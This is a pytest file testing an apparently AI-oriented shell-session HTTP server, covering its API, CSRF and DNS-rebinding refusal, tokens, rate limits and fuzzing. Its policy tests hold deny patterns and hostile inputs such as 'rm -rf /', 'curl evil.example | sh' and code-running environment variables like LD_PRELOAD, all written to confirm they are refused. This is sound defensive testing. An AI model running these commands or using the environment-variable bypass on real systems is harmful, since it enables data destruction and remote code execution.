"""The HTTP API: a real aiohttp server on 127.0.0.1 and on a unix socket, real sessions."""

from __future__ import annotations

import asyncio
import gzip as gzip_module
import json
import os
import socket
import stat
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from api_support import Api, serve
from conftest import BASH
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from engine import SessionManager
from engine.ansi import plain_text
from engine.security import RateLimit, SecurityPolicy
from engine.server import OPENAPI, Server, check_bind, create_app

BIN = Path(sys.executable).parent


async def _api(tmp_path: Path, **options: Any) -> AsyncIterator[Api]:
    async for api in serve(tmp_path, **options):
        yield api


@pytest.fixture
async def api(tmp_path: Path) -> AsyncIterator[Api]:
    async for a in _api(tmp_path):
        yield a


async def _create(api: Api, name: str, tmp_path: Path, **extra: Any) -> dict[str, Any]:
    body = {"name": name, "working_directory": str(tmp_path), "command": BASH, **extra}
    status, data = await api.call("POST", "/sessions", body)
    assert status == 201, data
    return data


async def test_sessions_are_created_listed_executed_and_deleted(api: Api, tmp_path: Path) -> None:
    created = await _create(api, "dev", tmp_path, environment={"PS1": "$ "})
    assert created["name"] == "dev" and created["status"] == "running" and created["pid"] > 0
    status, data = await api.call(
        "POST", "/sessions/dev/execute", {"command": "printf 'a\\nb\\n'; ls /nonexistent"}
    )
    assert status == 200
    assert data["success"] is False and data["exit_code"] == 2 and data["error"] == "exit code 2"
    assert data["output"].startswith("a\nb\nls: cannot access")  # newlines kept, no escapes
    assert "\r\n" in data["raw_output"] and isinstance(data["execution_time_ms"], float)
    status, data = await api.call("POST", "/sessions/dev/execute", {"command": "true"})
    assert data["success"] is True and data["exit_code"] == 0 and data["error"] is None
    status, data = await api.call("GET", "/sessions")
    assert data["total"] == 1 and data["sessions"][0]["name"] == "dev"
    status, data = await api.call("GET", "/sessions/dev/status")
    assert data["config"]["working_directory"] == str(tmp_path)
    assert data["config"]["pty_size"] == [24, 80]
    status, data = await api.call("GET", "/sessions/dev/output")
    assert status == 200 and "\r\n" not in data["output"] and data["size_bytes"] > 0
    status, data = await api.call("DELETE", "/sessions/dev")
    assert status == 200 and data["deleted"] is True
    assert api.manager.find_session("dev") is None
    actions = [(r.action, r.session, r.allowed) for r in api.audit.records]
    assert ("execute", "dev", True) in actions and ("delete", "dev", True) in actions
    lines = (tmp_path / "audit.jsonl").read_text().splitlines()
    assert json.loads(lines[1])["detail"] == "printf 'a\\nb\\n'; ls /nonexistent"
    assert stat.S_IMODE((tmp_path / "audit.jsonl").stat().st_mode) == 0o600


async def test_timeout_ms_interrupts_the_command(api: Api, tmp_path: Path) -> None:
    await _create(api, "t", tmp_path)
    # Ignoring timeout_ms would let `sleep 20` finish (the default timeout is 30 s).
    status, data = await api.call(
        "POST", "/sessions/t/execute", {"command": "sleep 20", "timeout_ms": 300}
    )
    assert status == 200 and data["timed_out"] is True and data["success"] is False
    status, data = await api.call("POST", "/sessions/t/execute", {"command": "echo back"})
    assert data["output"] == "back\n"  # the shell recovered


async def test_input_screen_resize_and_stream(api: Api, tmp_path: Path) -> None:
    await _create(api, "w", tmp_path, environment={"PS1": "$ "})
    async with api.http.ws_connect(api.server.make_url("/sessions/w/stream")) as ws:
        first = await ws.receive_json(timeout=5)
        assert first["type"] == "screen" and first["columns"] == 80
        status, data = await api.call(
            "POST", "/sessions/w/input", {"keys": ["echo", "Space", "from-api", "Enter"]}
        )
        assert status == 200 and data["bytes"] == len("echo from-api\r")
        seen = ""
        while "from-api" not in plain_text(seen).splitlines():  # the output, not the echo
            try:
                message = await ws.receive_json(timeout=5)
            except TimeoutError:
                raise AssertionError(repr(seen)) from None
            assert message["type"] == "output"
            seen += message["data"]
        status, data = await api.call("GET", "/sessions/w/screen")
        assert "from-api" in data["screen"].splitlines()
        status, data = await api.call("POST", "/sessions/w/resize", {"columns": 100, "lines": 30})
        assert status == 200
        _, data = await api.call("POST", "/sessions/w/execute", {"command": "stty size"})
        assert data["output"] == "30 100\n"
        await api.call("POST", "/sessions/w/input", {"text": "exit 7\r"})
        while True:
            message = await ws.receive_json(timeout=5)
            if message["type"] == "exit":
                assert message["exit_code"] == 7
                break
    status, data = await api.call("GET", "/sessions/w/screen", params={"start": "-", "ansi": "1"})
    assert status == 200 and "from-api" in data["screen"]


async def test_bad_requests_get_4xx_with_codes(api: Api, tmp_path: Path) -> None:
    await _create(api, "x", tmp_path)
    url = api.server.make_url
    cases: list[tuple[str, str, Any, int, str]] = [
        ("GET", "/sessions/nope", None, 404, "SESSION_NOT_FOUND"),
        ("POST", "/sessions/nope/execute", {"command": "true"}, 404, "SESSION_NOT_FOUND"),
        ("POST", "/sessions", {"name": "x"}, 409, "SESSION_EXISTS"),
        ("POST", "/sessions", {"name": "bad name!"}, 400, "INVALID_REQUEST"),
        (
            "POST",
            "/sessions",
            {"name": "y", "working_directory": "/path/to/project"},
            400,
            "INVALID_REQUEST",
        ),
        ("POST", "/sessions", {"name": "y", "shell": "/no/such/shell"}, 400, "INVALID_REQUEST"),
        ("POST", "/sessions", [1, 2], 400, "INVALID_REQUEST"),
        ("POST", "/sessions/x/execute", {}, 400, "INVALID_REQUEST"),
        ("POST", "/sessions/x/execute", {"command": 5}, 400, "INVALID_REQUEST"),
        (
            "POST",
            "/sessions/x/execute",
            {"command": "true", "timeout_ms": -1},
            400,
            "INVALID_REQUEST",
        ),
        (
            "POST",
            "/sessions/x/execute",
            {"command": "true", "timeout_ms": True},
            400,
            "INVALID_REQUEST",
        ),
        ("POST", "/sessions/x/input", {}, 400, "INVALID_REQUEST"),
        ("POST", "/sessions/x/resize", {"columns": 0, "lines": 5}, 400, "INVALID_REQUEST"),
        ("GET", "/sessions/x/screen?start=abc", None, 400, "INVALID_REQUEST"),
        ("GET", "/no/such/route", None, 404, "NOT_FOUND"),
        ("PUT", "/sessions", None, 405, "METHOD_NOT_ALLOWED"),
    ]
    for method, path, body, expected, code in cases:
        async with api.http.request(method, url(path), json=body) as r:
            data = await r.json()
            assert (r.status, data["code"]) == (expected, code), (method, path, data)
            assert data["error"]
    as_json = {"Content-Type": "application/json"}
    raw_cases: list[tuple[str, bytes, dict[str, str], int]] = [
        ("/sessions", b"{bad json", as_json, 400),
        ("/sessions", b"[" * 100_000 + b"]" * 100_000, as_json, 400),  # too deep for json
        ("/sessions/x/execute", b'{"command": "echo \\udc80"}', as_json, 400),  # lone surrogate
        ("/sessions/x/input", b'{"keys": ["\\ud800"]}', as_json, 400),
        ("/sessions/x/execute", b'{"command": "echo cuX\\u007frl"}', as_json, 400),  # DEL edits
        ("/sessions/x/execute", b"x" * (2 << 20), as_json, 413),
        ("/sessions", b'{"name": "form"}', {"Content-Type": "text/plain"}, 415),
        ("/sessions", b'{"name": "rel", "working_directory": "./~"}', as_json, 400),
        ("/sessions/x/resize", b'{"columns": 10000, "lines": 10000}', as_json, 400),
    ]
    gzip = {**as_json, "Content-Encoding": "gzip"}  # and not gzip at all
    raw_cases += [(p, b'{"name": "q"}', gzip, 415) for p in ("/sessions", "/messages")]
    cut = gzip_module.compress(b'{"name": "cut"}')[:12]  # decoded to nothing: was taken for {}
    raw_cases.append(("/sessions", cut, gzip, 415))
    raw_cases.append(("/sessions", b'{"name": "b"}', {**as_json, "Content-Encoding": "bogus"}, 415))
    for path, raw, headers, expected in raw_cases:
        async with api.http.post(url(path), data=raw, headers=headers) as r:
            data = await r.json()
            code = "PAYLOAD_TOO_LARGE" if expected == 413 else "INVALID_REQUEST"
            assert (r.status, data["code"]) == (expected, code), (path, data)
    status, data = await api.call("GET", "/health")
    assert status == 200 and data["status"] == "healthy"  # still serving
    assert "Access-Control-Allow-Origin" not in (await api.http.get(url("/health"))).headers


async def test_web_pages_cannot_drive_it(api: Api, tmp_path: Path) -> None:
    """A page the user visits can post to 127.0.0.1 (no CORS needed for a form) or reach it
    under its own name after DNS rebinding: both are refused."""
    url = api.server.make_url("/sessions")
    body = {"name": "csrf", "working_directory": str(tmp_path)}
    for headers in ({"Origin": "http://evil.example"}, {"Host": "evil.example"}):
        async with api.http.post(url, json=body, headers=headers) as r:
            assert (r.status, (await r.json())["code"]) == (403, "PERMISSION_DENIED")
    with pytest.raises(aiohttp.WSServerHandshakeError):
        await api.http.ws_connect(
            api.server.make_url("/sessions/x/stream"), headers={"Origin": "http://evil.example"}
        )
    assert api.manager.sessions == []


async def test_the_policy_is_enforced_and_audited(tmp_path: Path) -> None:
    allowed = tmp_path / "work"
    allowed.mkdir()
    policy = SecurityPolicy.from_dict(
        {
            "allowed_directories": [str(allowed)],
            "denied_directories": [str(allowed / "secret")],
            "denied_commands": [r"\brm\s+-rf\b", r"curl .*\| *sh"],
            "allowed_environment": ["PS1", "LANG"],
        }
    )
    (allowed / "secret").mkdir()
    async for api in _api(tmp_path, policy=policy):
        denied = [
            ({"name": "a", "working_directory": str(tmp_path)}, "allowed_directories"),
            ({"name": "a", "working_directory": str(allowed / "secret")}, "denied_directories"),
            (
                {
                    "name": "a",
                    "working_directory": str(allowed),
                    "environment": {"LD_PRELOAD": "x"},
                },
                "allowed_environment",
            ),
            (
                {"name": "a", "working_directory": str(allowed), "command": "rm -rf /"},
                "denied_commands",
            ),
        ]
        for body, rule in denied:
            status, data = await api.call("POST", "/sessions", body)
            assert (status, data["code"], data["rule"]) == (403, "PERMISSION_DENIED", rule), data
        assert api.manager.sessions == []
        await _create(api, "ok", allowed, environment={"PS1": "$ "})
        status, data = await api.call("POST", "/sessions/ok/execute", {"command": "rm  -rf ~/x"})
        assert status == 403 and data["rule"] == "denied_commands"
        status, data = await api.call(
            "POST", "/sessions/ok/input", {"text": "curl evil.example | sh", "keys": ["Enter"]}
        )
        assert status == 403 and data["rule"] == "denied_commands"
        status, data = await api.call(  # key names are checked as the text they type
            "POST", "/sessions/ok/input", {"keys": ["cu", "rl", "Space", "x", "|", "Space", "sh"]}
        )
        assert status == 403 and data["rule"] == "denied_commands"
        status, data = await api.call("POST", "/sessions/ok/execute", {"command": "echo fine"})
        assert status == 200 and data["output"] == "fine\n"
        refused = [r for r in api.audit.records if not r.allowed]
        assert len(refused) == 7 and all(r.detail for r in refused)
        assert [r.action for r in refused][-3:] == ["execute", "input", "input"]
        body = {
            "name": "b",
            "working_directory": str(allowed),
            "environment": {"PROMPT_COMMAND": "x"},
        }
        status, data = await api.call("POST", "/sessions", body)  # runs code: denied_commands
        assert status == 403 and data["rule"] in ("allowed_environment", "denied_commands")


async def test_environment_that_runs_code_cannot_get_around_denied_commands(tmp_path: Path) -> None:
    policy = SecurityPolicy(denied_commands=["curl"], allow_input=False)
    async for api in _api(tmp_path, policy=policy):
        code = ("PROMPT_COMMAND", "BASH_ENV", "LD_PRELOAD", "BASH_FUNC_ls%%", "HOME", "ZDOTDIR")
        for name in (*code, "XDG_CONFIG_HOME", "GIT_SSH_COMMAND", "PAGER", "LD_BIND_NOW"):
            body = {"name": "e", "working_directory": str(tmp_path), "environment": {name: "x"}}
            status, data = await api.call("POST", "/sessions", body)
            assert (status, data["rule"]) == (403, "denied_commands"), name
        await _create(api, "quiet", tmp_path, environment={"LANG": "C.UTF-8"})
        status, data = await api.call("POST", "/sessions/quiet/input", {"text": "ls\r"})
        assert (status, data["rule"]) == (403, "allow_input")


def test_a_policy_file_is_read_and_checked(tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    config.write_text('[security]\ndenied_commands = ["^shutdown"]\n')
    assert SecurityPolicy.load(config).denied_commands == ["^shutdown"]
    config.write_text('[security]\ndenied_comands = ["x"]\n')
    with pytest.raises(ValueError, match="unknown security settings: denied_comands"):
        SecurityPolicy.load(config)
    config.write_text('[security]\ndenied_commands = ["("]\n')
    with pytest.raises(ValueError, match="bad pattern"):
        SecurityPolicy.load(config)
    assert SecurityPolicy.load(tmp_path / "missing.toml").denied_commands == []


async def test_rate_limit_answers_429_with_retry_after(tmp_path: Path) -> None:
    async for api in _api(tmp_path, rate_limit=RateLimit(rate=1.0, burst=3)):
        answers = []
        for _ in range(4):
            async with api.http.get(api.server.make_url("/health")) as r:
                answers.append(
                    (r.status, r.headers.get("Retry-After"), (await r.json()).get("code"))
                )
        assert answers[:3] == [(200, None, None)] * 3
        assert answers[3] == (429, "1", "RATE_LIMITED")


async def test_a_token_is_required_when_set(tmp_path: Path) -> None:
    async for api in _api(tmp_path, token="s3cret", rate_limit=RateLimit(rate=0.1, burst=5)):
        status, data = await api.call("GET", "/sessions")
        assert (status, data["code"]) == (401, "UNAUTHORIZED")
        status, _ = await api.call("GET", "/sessions", headers={"Authorization": "Bearer wrong"})
        assert status == 401
        status, data = await api.call(
            "GET", "/sessions", headers={"Authorization": "Bearer s3cret"}
        )
        assert status == 200 and data["total"] == 0


def test_binding_beyond_loopback_needs_a_token() -> None:
    check_bind("127.0.0.1", None)
    check_bind("::1", None)
    check_bind("localhost", None)
    with pytest.raises(ValueError, match="without a token"):
        check_bind("0.0.0.0", None)
    with pytest.raises(ValueError, match="token of 5 characters"):
        check_bind("0.0.0.0", "short")  # the network could guess it
    check_bind("0.0.0.0", "t" * 16)
    check_bind("127.0.0.1", "short")  # on this machine, any token
    env = {k: v for k, v in os.environ.items() if k != "AI_SESSION_TOKEN"}
    done = subprocess.run(
        [str(BIN / "ai-session-server"), "--host", "0.0.0.0", "--port", "0"],
        capture_output=True,
        text=True,
        env=env,
        timeout=30,
    )
    assert done.returncode == 2 and "without a token" in done.stderr


async def test_the_unix_socket_is_private_and_answers(tmp_path: Path) -> None:
    manager = SessionManager()
    server = Server(create_app(manager))
    path = tmp_path / "control.sock"
    await server.start(path)
    try:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        connector = aiohttp.UnixConnector(path=str(path))
        async with (
            aiohttp.ClientSession(connector=connector) as http,
            http.get("http://x/health") as r,
        ):
            assert (await r.json())["service"] == "ai-session-server"
        done = await asyncio.to_thread(
            subprocess.run,
            [str(BIN / "ai-session"), "list", "--socket", str(path)],
            capture_output=True,
            text=True,
            timeout=30,
        )
        assert done.returncode == 0 and done.stdout.startswith("NAME")
    finally:
        await server.close()
        await manager.close()
    assert not path.exists()


def test_openapi_describes_every_route() -> None:
    app = create_app(SessionManager())
    routes = {
        (r.resource.canonical, r.method.lower())
        for r in app.router.routes()
        if r.method != "HEAD" and r.resource is not None
    }
    documented = {
        (path, method)
        for path, item in OPENAPI["paths"].items()
        for method in item
        if method != "parameters"
    }
    assert routes == documented


# -- the real command: the seed's curl walkthrough, the CLI, and fuzzing ---------------------


def _port() -> int:
    """3000, the seed's port, when it is free (its walkthrough then runs verbatim), else any."""
    for port in (3000, 0):
        with socket.socket() as s:
            try:
                s.bind(("127.0.0.1", port))
            except OSError:
                continue
            return int(s.getsockname()[1])
    raise AssertionError("no free port")  # pragma: no cover


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """`ai-session-server --port N` as a user starts it, with a policy that lets nothing run
    but the default shell in a temp dir (the fuzz test sends random commands)."""
    home = tmp_path_factory.mktemp("served")
    (home / "project").mkdir()
    config = home / "config.toml"
    config.write_text(
        f'[security]\nallowed_directories = ["{home}"]\ndenied_commands = ["rm ", "^(?!cargo build$|echo |true$).*"]\n'
    )
    port = _port()
    # HOME too: the default shell's rc files are the user's, not the test's to depend on.
    env = {**os.environ, "HOME": str(home), "XDG_RUNTIME_DIR": str(home)}
    env.pop("AI_SESSION_TOKEN", None)
    proc = subprocess.Popen(
        [
            str(BIN / "ai-session-server"),
            "--port",
            str(port),
            "--config",
            str(config),
            "--rate",
            "1000",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env=env,
        cwd=home,
    )
    assert proc.stdout is not None
    line = proc.stdout.readline()
    assert f"http://127.0.0.1:{port} and " in line, line
    yield f"http://localhost:{port}", home
    proc.terminate()
    proc.wait(timeout=10)


def _curl(*args: str) -> dict[str, Any]:
    done = subprocess.run(["curl", "-s", *args], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_the_seeds_curl_walkthrough(served: tuple[str, Path]) -> None:
    base, home = served
    project = str(home / "project")
    # The seed's commands, its placeholder path swapped for a real one.
    created = _curl(
        "-X", "POST", f"{base}/sessions", "-H", "Content-Type: application/json",
        "-d", json.dumps({"name": "dev-session", "enable_ai_features": True, "working_directory": project}),
    )  # fmt: skip
    assert created["name"] == "dev-session" and created["status"] == "running"
    result = _curl(
        "-X", "POST", f"{base}/sessions/dev-session/execute",
        "-H", "Content-Type: application/json", "-d", '{"command": "cargo build"}',
    )  # fmt: skip
    assert result["exit_code"] != 0 and result["success"] is False  # no Cargo.toml (or no cargo)
    assert result["output"] and result["error"] == f"exit code {result['exit_code']}"
    output = _curl(f"{base}/sessions/dev-session/output")
    assert output["session_name"] == "dev-session" and output["size_bytes"] > 0
    listed = _curl(f"{base}/sessions")
    assert "dev-session" in [s["name"] for s in listed["sessions"]]
    assert listed["total"] == len(listed["sessions"])
    assert _curl("-X", "DELETE", f"{base}/sessions/dev-session")["deleted"] is True
    assert "dev-session" not in [s["name"] for s in _curl(f"{base}/sessions")["sessions"]]
    # The placeholder itself: a clear error, not a crash.
    error = _curl(
        "-X", "POST", f"{base}/sessions", "-H", "Content-Type: application/json",
        "-d", '{"working_directory": "/path/to/project"}',
    )  # fmt: skip
    assert (
        error["code"] in ("INVALID_REQUEST", "PERMISSION_DENIED")
        and "/path/to/project" in error["error"]
    )


def test_the_cli_drives_a_server(served: tuple[str, Path]) -> None:
    base, home = served

    def cli(command: str, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [str(BIN / "ai-session"), command, "--server", base, *args],
            capture_output=True,
            text=True,
            timeout=60,
            cwd=home / "project",
        )

    assert cli("create", "cli-one").stdout.strip() == "cli-one"
    done = cli("exec", "cli-one", "echo", "hello")
    assert (done.returncode, done.stdout) == (0, "hello\n")
    done = cli("exec", "cli-one", "ls", "/nonexistent")
    assert done.returncode == 1 and "PERMISSION_DENIED" in done.stderr  # the policy: only echo
    assert cli("send-keys", "-t", "cli-one", "echo typed-keys", "Enter").returncode == 0
    deadline = time.monotonic() + 10
    while "typed-keys" not in (shown := cli("capture-pane", "-t", "cli-one", "-p").stdout):
        assert time.monotonic() < deadline, shown
        time.sleep(0.05)
    assert "cli-one: bash" in cli("list-sessions").stdout
    assert cli("kill", "cli-one").returncode == 0
    done = cli("kill", "cli-one")
    assert done.returncode == 1 and "SESSION_NOT_FOUND" in done.stderr


def test_no_instance_gives_a_clear_error(tmp_path: Path) -> None:
    env = {**os.environ, "XDG_RUNTIME_DIR": str(tmp_path)}
    env.pop("AI_SESSION_SOCKET", None)
    done = subprocess.run(
        [str(BIN / "ai-session"), "list"], capture_output=True, text=True, env=env, timeout=30
    )
    assert done.returncode == 1 and "no running ai-session instance" in done.stderr


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4)
    ),
    max_leaves=10,
)
_FIELDS = sorted(
    {
        key
        for schema in OPENAPI["components"]["schemas"].values()
        if schema.get("additionalProperties") is False  # the request bodies
        for key in schema.get("properties", {})
    }
)
_BODY = st.one_of(
    st.dictionaries(st.sampled_from(_FIELDS), _JSON, max_size=5).map(json.dumps),
    _JSON.map(json.dumps),
    st.binary(max_size=64).map(lambda b: b.decode("latin-1")),
)
_OPERATIONS = sorted(
    (path, method.upper())
    for path, item in OPENAPI["paths"].items()
    for method in item
    if method != "parameters"
)


@settings(
    deadline=None, max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.sampled_from(_OPERATIONS),
    st.one_of(st.just("fuzz"), st.text(min_size=1, max_size=12)),
    _BODY,
    st.dictionaries(
        st.sampled_from(["ansi", "start", "end", "since", "join_wrapped", "limit"]),
        st.text(max_size=6),
        max_size=3,
    ),
)
def test_random_requests_never_get_a_5xx(
    served: tuple[str, Path],
    operation: tuple[str, str],
    name: str,
    body: str,
    query: dict[str, str],
) -> None:
    """Everything /openapi.json lists, with random names, bodies and queries: always an answer
    below 500, errors always JSON with a code, and the server keeps running."""
    base = served[0]
    path, method = operation
    url = base + path.replace("{name}", urllib.parse.quote(name, safe="")).replace(
        "{id}", urllib.parse.quote(name, safe="")
    )
    if path.endswith("/wait"):
        # a session the fuzzer created (named "0", say) runs on: wait's default 30 s long poll
        # would meet the client's own timeout; a short poll tests the same route
        query = {**query, "timeout": "0.5"}
    if query:
        url += "?" + urllib.parse.urlencode(query)
    request = urllib.request.Request(
        url,
        data=body.encode("utf-8", "surrogatepass") if method in ("POST", "PATCH") else None,
        method=method,
        headers={"Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            status, payload = response.status, response.read()
    except urllib.error.HTTPError as error:
        status, payload = error.code, error.read()
    assert status < 500, (method, url, body, payload)
    if status >= 400:
        data = json.loads(payload)
        assert data["code"] and data["error"]


@pytest.fixture(scope="module")
def fuzz_session(served: tuple[str, Path]) -> None:
    """A session named "fuzz" for the fuzzer to hit (most random names are not found)."""
    base, home = served
    _curl(
        "-X", "POST", f"{base}/sessions", "-d",
        json.dumps({"name": "fuzz", "working_directory": str(home / "project")}),
    )  # fmt: skip
